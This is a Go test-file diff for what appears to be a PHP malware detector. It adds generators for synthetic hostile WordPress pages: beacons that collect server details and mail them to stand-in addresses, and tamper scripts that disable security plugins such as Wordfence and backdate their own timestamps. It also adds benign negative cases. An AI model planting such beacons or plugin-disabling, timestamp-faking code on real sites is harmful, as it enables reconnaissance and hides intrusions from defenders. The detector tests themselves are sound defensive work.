@@ -445,6 +445,101 @@ func TestConfinedFileManager(t *testing.T) {
 	}
 }
 
+// beaconPages: a page collects what the server is and mails it to addresses it spells.
+func beaconPages(r *rand.Rand) []techVariant {
+	facts := []string{"php_uname()", "@get_current_user()", "ini_get('safe_mode')", "ini_get('disable_functions')", "$_SERVER['DOCUMENT_ROOT']",
+		"$_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']", "getcwd()", "PHP_OS", "$_SERVER['SERVER_ADDR']"}
+	var out []techVariant
+	for n := 0; n < 24; n++ {
+		var b strings.Builder
+		b.WriteString("<?php\nerror_reporting(0);\n")
+		body := "$" + word(r)
+		k := 2 + r.Intn(3)
+		perm := r.Perm(len(facts))
+		// at least one fact no application mails about itself
+		picked := []string{facts[r.Intn(4)]}
+		for _, i := range perm[:k] {
+			picked = append(picked, facts[i])
+		}
+		if r.Intn(3) == 0 {
+			b.WriteString("ob_start();\nphpinfo();\n$info = ob_get_contents();\nob_end_clean();\n")
+			picked = append(picked, "$info")
+		}
+		switch r.Intn(3) {
+		case 0: // each fact in a variable, interpolated
+			var vs []string
+			for _, f := range picked {
+				v := "$" + word(r)
+				b.WriteString(v + " = " + f + ";\n")
+				vs = append(vs, "{"+v+"}")
+			}
+			b.WriteString(body + " = \"<b>host:</b> " + strings.Join(vs, "<br>") + "\";\n")
+		case 1: // appended piece by piece
+			b.WriteString(body + " = '';\n")
+			for _, f := range picked {
+				b.WriteString(body + " .= 'x: ' . " + f + " . \"\\n\";\n")
+			}
+		case 2: // an array joined
+			b.WriteString(body + " = implode(\"\\n\", array(" + strings.Join(picked, ", ") + "));\n")
+		}
+		to := word(r) + "@mail.example.com"
+		if r.Intn(2) == 0 {
+			to += "," + word(r) + "@inbox.example.org"
+		}
+		call := "mail('" + to + "', 'site', " + body + ", 'From: <noreply>');"
+		if r.Intn(2) == 0 {
+			tv := "$" + word(r)
+			b.WriteString(tv + " = '" + to + "';\n")
+			call = "if (mail(" + tv + ", 'hi " + word(r) + "', " + body + ")) { echo 'ok'; }"
+		}
+		b.WriteString(call + "\n")
+		p := "/var/www/html/wp-content/uploads/2019/0" + fmt.Sprint(1+r.Intn(9)) + "/" + word(r) + ".php"
+		out = append(out, techVariant{"recon-beacon", p, b.String()})
+	}
+	return out
+}
+
+// tamperPages: a page renames or removes a security plugin's directory, or sets its own
+// file's time to another file's.
+func tamperPages(r *rand.Rand) []techVariant {
+	plugins := []string{"wordfence", "sucuri-scanner", "better-wp-security", "all-in-one-wp-security"}
+	roots := []string{"$_SERVER['DOCUMENT_ROOT'] . '/wp-content/plugins/%s'", "ABSPATH . 'wp-content/plugins/%s'", "'../wp-content/plugins/%s'", "WP_CONTENT_DIR . '/plugins/%s'"}
+	var out []techVariant
+	for n := 0; n < 24; n++ {
+		var b strings.Builder
+		b.WriteString("<?php\n")
+		if n%3 != 2 {
+			pl := plugins[r.Intn(len(plugins))]
+			dir := fmt.Sprintf(roots[r.Intn(len(roots))], pl)
+			switch r.Intn(3) {
+			case 0:
+				b.WriteString("if (is_dir(" + dir + ")) { @rename(" + dir + ", " + dir + " . '_off'); }\n")
+			case 1:
+				b.WriteString("$p = " + dir + ";\nif (file_exists(" + dir + ")) rename(" + dir + ", dirname($p) . '/." + word(r) + "');\n")
+			case 2:
+				b.WriteString("@chmod(" + dir + ", 0);\n")
+			}
+		}
+		if n%3 != 0 {
+			self := []string{"__FILE__", "$_SERVER['SCRIPT_FILENAME']", "$me"}[r.Intn(3)]
+			if self == "$me" {
+				b.WriteString("$me = __FILE__;\n")
+			}
+			switch r.Intn(3) {
+			case 0:
+				b.WriteString("@touch(" + self + ", filemtime(__DIR__ . '/index.php'));\n")
+			case 1:
+				b.WriteString("$fs = glob('*.php');\n$t = array();\nforeach ($fs as $f) { $t[] = filemtime($f); }\ntouch(" + self + ", min($t));\n")
+			case 2:
+				b.WriteString("$old = filemtime('./');\ntouch(" + self + ", $old, $old);\n")
+			}
+		}
+		b.WriteString("echo $_SERVER['SERVER_NAME'];\n")
+		out = append(out, techVariant{"site-tamper", "/var/www/html/wp-admin/includes/class-" + word(r) + ".php", b.String()})
+	}
+	return out
+}
+
 // word is a random PHP identifier.
 func word(r *rand.Rand) string {
 	const first = "abcdefghijklmnopqrstuvwxyz_"
@@ -465,6 +560,8 @@ func TestHarnessTechniques2(t *testing.T) {
 	vs = append(vs, imagePages(r)...)
 	vs = append(vs, stagerPages(r)...)
 	vs = append(vs, downloaderPages(r)...)
+	vs = append(vs, beaconPages(r)...)
+	vs = append(vs, tamperPages(r)...)
 	a := New()
 	type tally struct{ found, total int }
 	by := map[string]*tally{}
@@ -496,15 +593,19 @@ func TestHarnessTechniques2(t *testing.T) {
 // parameter bound into a query, a property of another class's object evaluated from a constant.
 func TestTechnique2Negatives(t *testing.T) {
 	pages := map[string]string{
-		"/var/www/html/search.php": "<?php\nclass Search {\n  public $q;\n  function __construct() { $this->q = $_REQUEST['q'] ?? ''; }\n}\n$s = new Search();\n$q = base64_decode($s->q);\necho htmlspecialchars($q);\n$st = $pdo->prepare('SELECT * FROM t WHERE n = ?');\n$st->execute([$s->q]);\n",
-		"/var/www/html/hooks.php":  "<?php\n$sep = '-';\n$name = str_replace($sep, '_', 'render-title');\n$fn = 'hook_' . $name;\nfunction hook_render_title($t) { return '<h1>' . htmlspecialchars($t) . '</h1>'; }\necho $fn('Welcome');\n$msg = strtr('Hello {who}', array('{who}' => 'world'));\n$out = 'strtoupper';\necho $out($msg);\n",
-		"/var/www/html/slug.php":   "<?php\n$junk = array('#', '%');\n$clean = str_replace($junk, '', 'my#page%title');\n$f = 'ucwords';\n$t = $f(str_replace('_', ' ', $clean));\n$cb = function ($s) { return trim($s); };\necho $cb($t);\n",
-		"/var/www/html/source.php": "<?php\nif (isset($_GET['source'])) { highlight_file(__FILE__); exit; }\n$sum = md5(file_get_contents(__FILE__));\n$cfg = base64_decode(substr(file_get_contents(__FILE__), __COMPILER_HALT_OFFSET__));\necho htmlspecialchars($cfg), $sum;\n__halt_compiler();eyJhIjoxfQ==",
-		"/var/www/html/stub.php":   "<?php\nPhar::mapPhar('app.phar');\n$h = fopen(__FILE__, 'rb');\nfseek($h, __COMPILER_HALT_OFFSET__);\n$meta = json_decode(base64_decode(stream_get_contents($h)), true);\nrequire 'phar://app.phar/index.php';\n__halt_compiler();e30=",
-		"/var/www/html/report.php": "<?php\n$csv = \"id,name,total\\n1,alpha,10\\n2,beta,20\\n3,gamma,30\\n4,delta,40\\n5,epsilon,50\\n\";\nfile_put_contents('/tmp/report.csv', $csv);\nexec('gzip -f /tmp/report.csv');\n",
-		"/var/www/html/fetch.php":  "<?php\n$feed = file_get_contents('https://news.example.org/rss.xml');\nfile_put_contents('/var/cache/app/rss.xml', $feed);\n$img = file_get_contents($_GET['img']);\nheader('Content-Type: image/png');\necho $img;\n",
-		"/var/www/html/backup.php": "<?php\n$sh = \"#!/bin/sh\\ntar czf /var/backups/site.tgz /var/www/html\\n\";\nfile_put_contents('/var/backups/run.sh', $sh);\necho 'saved';\n",
-		"/var/www/html/view.php":   "<?php\nclass Req { public $page; function __construct() { $this->page = $_GET['page'] ?? 'home'; } }\nclass Tpl { public $code = 'return 1;'; }\n$r = new Req();\n$t = new Tpl();\n$x = eval($t->code);\necho htmlspecialchars($r->page);\n",
+		"/var/www/html/search.php":                                   "<?php\nclass Search {\n  public $q;\n  function __construct() { $this->q = $_REQUEST['q'] ?? ''; }\n}\n$s = new Search();\n$q = base64_decode($s->q);\necho htmlspecialchars($q);\n$st = $pdo->prepare('SELECT * FROM t WHERE n = ?');\n$st->execute([$s->q]);\n",
+		"/var/www/html/hooks.php":                                    "<?php\n$sep = '-';\n$name = str_replace($sep, '_', 'render-title');\n$fn = 'hook_' . $name;\nfunction hook_render_title($t) { return '<h1>' . htmlspecialchars($t) . '</h1>'; }\necho $fn('Welcome');\n$msg = strtr('Hello {who}', array('{who}' => 'world'));\n$out = 'strtoupper';\necho $out($msg);\n",
+		"/var/www/html/slug.php":                                     "<?php\n$junk = array('#', '%');\n$clean = str_replace($junk, '', 'my#page%title');\n$f = 'ucwords';\n$t = $f(str_replace('_', ' ', $clean));\n$cb = function ($s) { return trim($s); };\necho $cb($t);\n",
+		"/var/www/html/source.php":                                   "<?php\nif (isset($_GET['source'])) { highlight_file(__FILE__); exit; }\n$sum = md5(file_get_contents(__FILE__));\n$cfg = base64_decode(substr(file_get_contents(__FILE__), __COMPILER_HALT_OFFSET__));\necho htmlspecialchars($cfg), $sum;\n__halt_compiler();eyJhIjoxfQ==",
+		"/var/www/html/stub.php":                                     "<?php\nPhar::mapPhar('app.phar');\n$h = fopen(__FILE__, 'rb');\nfseek($h, __COMPILER_HALT_OFFSET__);\n$meta = json_decode(base64_decode(stream_get_contents($h)), true);\nrequire 'phar://app.phar/index.php';\n__halt_compiler();e30=",
+		"/var/www/html/report.php":                                   "<?php\n$csv = \"id,name,total\\n1,alpha,10\\n2,beta,20\\n3,gamma,30\\n4,delta,40\\n5,epsilon,50\\n\";\nfile_put_contents('/tmp/report.csv', $csv);\nexec('gzip -f /tmp/report.csv');\n",
+		"/var/www/html/fetch.php":                                    "<?php\n$feed = file_get_contents('https://news.example.org/rss.xml');\nfile_put_contents('/var/cache/app/rss.xml', $feed);\n$img = file_get_contents($_GET['img']);\nheader('Content-Type: image/png');\necho $img;\n",
+		"/var/www/html/backup.php":                                   "<?php\n$sh = \"#!/bin/sh\\ntar czf /var/backups/site.tgz /var/www/html\\n\";\nfile_put_contents('/var/backups/run.sh', $sh);\necho 'saved';\n",
+		"/var/www/html/contact.php":                                  "<?php\n$msg = 'From ' . $_SERVER['HTTP_HOST'] . ' (' . $_SERVER['REMOTE_ADDR'] . \"):\\n\" . strip_tags($_POST['message']);\nmail('owner@example.com', 'Contact form', $msg);\n",
+		"/var/www/html/errors.php":                                   "<?php\n$report = 'PHP ' . phpversion() . ' on ' . $_SERVER['SERVER_NAME'] . ': ' . error_get_last()['message'];\nmail('dev@example.com', 'Site error', $report);\n",
+		"/var/www/html/wp-content/plugins/wordfence/lib/cleanup.php": "<?php\n@unlink(WP_CONTENT_DIR . '/plugins/wordfence/tmp/cache.php');\n@rmdir(WP_CONTENT_DIR . '/plugins/wordfence/tmp');\n",
+		"/var/www/html/cache.php":                                    "<?php\n$f = __DIR__ . '/cache/page.html';\nif (filemtime($f) < time() - 60) { file_put_contents($f, render()); touch($f, filemtime(__DIR__ . '/data.json')); }\ntouch(__FILE__);\n",
+		"/var/www/html/view.php":                                     "<?php\nclass Req { public $page; function __construct() { $this->page = $_GET['page'] ?? 'home'; } }\nclass Tpl { public $code = 'return 1;'; }\n$r = new Req();\n$t = new Tpl();\n$x = eval($t->code);\necho htmlspecialchars($r->page);\n",
 	}
 	for p, page := range pages {
 		if fs := New().Analyze(p, []byte(page)); len(fs) > 0 {
